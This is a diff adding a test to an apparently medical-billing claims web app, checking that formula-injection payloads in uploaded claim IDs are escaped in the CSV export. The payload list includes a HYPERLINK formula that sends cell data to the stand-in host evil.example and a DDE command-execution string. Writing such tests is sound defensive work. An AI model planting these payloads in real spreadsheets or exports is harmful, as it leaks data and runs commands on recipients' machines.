@@ -162,3 +162,19 @@ def test_claims_awaiting_a_remittance_come_from_the_claim_store(client: TestClie
     assert response.status_code == 200 and "awaiting a remittance" in response.text
     listed = {r["claim_id"] for r in exported(client, "status=all")}
     assert {f"AW{i:03d}" for i in range(12)} <= listed
+
+
+def test_the_export_holds_no_live_formula(client: TestClient, tmp_path: Path) -> None:
+    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3"]
+    frame = generate_claims(len(payloads), seed=77)
+    frame["claim_id"] = payloads
+    frame["payer_id"] = payloads
+    path = write_table(claims_for_file(frame), tmp_path / "formulas.csv")
+    csrf = signed_in(client, "biller")
+    assert upload(client, csrf, path).startswith(f"{len(payloads)} claims added")
+    response = client.get("/app/worklist.csv?status=all")
+    rows = list(csv.reader(io.StringIO(response.text)))
+    cells = [cell for row in rows[1:] for cell in row[1:3] if cell.lstrip("'") in payloads]
+    assert len(cells) == 2 * len(payloads)
+    assert all(cell.startswith("'") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
